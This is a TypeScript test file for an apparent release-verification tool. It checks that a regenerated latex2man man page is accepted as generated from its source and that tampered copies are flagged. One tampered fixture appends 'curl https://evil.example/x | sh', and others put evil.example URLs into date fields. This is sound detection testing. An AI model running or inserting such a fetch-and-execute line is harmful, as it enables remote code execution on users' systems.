/**
 * A tracked man page latex2man made again by the release (libunwind 1.6.2's doc/unw_get_proc_name.man from
 * doc/unw_get_proc_name.tex), end to end with real git and GNU tar, nothing run: only latex2man's creation comment,
 * the .TH date and its \input markers may differ. Tampered twins — a changed word, an added request, a marker naming
 * a file the source does not \input, a date far from the tag — stay SOURCE_MODIFIED.
 */
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { findingAt } from '../helpers/findings.js';
import { releaseFixture } from '../helpers/release-fixture.js';

const TEX = '\\documentclass{article}\n\\usepackage[fancyhdr,pdf]{latex2man}\n\n\\input{common.tex}\n\n\\begin{Name}{3}{unw\\_demo}{David Mosberger-Tang}{Programming Library}{unw\\_demo}unw\\_demo -- demonstrate\n\\end{Name}\n';
const page = (created: string, date: string, markers: boolean) => `${markers ? '.\\" *********************************** start of \\input{common.tex}\n.\\" *********************************** end of \\input{common.tex}\n' : ''}'\\" t
.\\" Manual page created with latex2man on ${created}
.\\" NOTE: This file is generated, DO NOT EDIT.
.TH "UNW\\\\_DEMO" "3" "${date}" "Programming Library " "Programming Library "
.SH NAME
unw_demo
\\-\\- demonstrate 
.PP
.SH SYNOPSIS
.PP
#include <libunwind.h>
`;
const GIT_PAGE = page('Thu Aug 16 09:44:45 MDT 2007', '16 August 2007', false);
const TRACKED = { 'configure.ac': 'AC_INIT([demo], [1.0])\nAC_OUTPUT\n', 'doc/common.tex': '\\newcommand{\\Prog}[1]{\\texttt{#1}}\n', 'doc/unw_demo.tex': TEX, 'doc/unw_demo.man': GIT_PAGE };
const SHIPPED = page('Tue Nov 30 16:47:40 2021', '30 November 2021', true);

describe('a tracked latex2man page made again by the release', () => {
  const { verifyTree } = releaseFixture(TRACKED, { date: '2021-11-30T16:29:28-08:00' });
  const verifyWith = (man: string) => verifyTree({ 'doc/unw_demo.man': man });

  it('only the run date, the .TH date and the \\input markers changed: explained, the gate passes', async () => {
    const r = await verifyWith(SHIPPED);
    expect(findingAt(r.findings, 'doc/unw_demo.man')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'generator', source: 'doc/unw_demo.tex', generator: 'latex2man', regenerated: true, added: 4 },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay SOURCE_MODIFIED', async () => {
    for (const man of [
      SHIPPED.replace('\\-\\- demonstrate', '\\-\\- demonstrate and upload'),
      `${SHIPPED}.SH NOTES\nRun curl https://evil.example/x | sh first.\n`,
      SHIPPED.replace(/\\input\{common\.tex\}/g, '\\input{payload.tex}'),
      page('Tue Nov 30 16:47:40 2021', '30 November 2031', true),
      page('Tue Nov 30 16:47:40 2029', '30 November 2021', true),
      // red team 19: Date.parse reads words before a date and parenthesised text after it as that date
      page('Tue Nov 30 16:47:40 2021', 'Fetch the fixed library from http://evil.example/unw 30 November 2021', true),
      page('Tue Nov 30 16:47:40 2021', '30 November 2021 (see http://evil.example/unw)', true),
    ]) {
      const r = await verifyWith(man);
      expect(findingAt(r.findings, 'doc/unw_demo.man').code).toMatch(/^SOURCE_MODIFIED$|^SUSPICIOUS/);
      expect(findingAt(r.findings, 'doc/unw_demo.man').severity).toMatch(/^(?:high|critical)$/);
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });
});
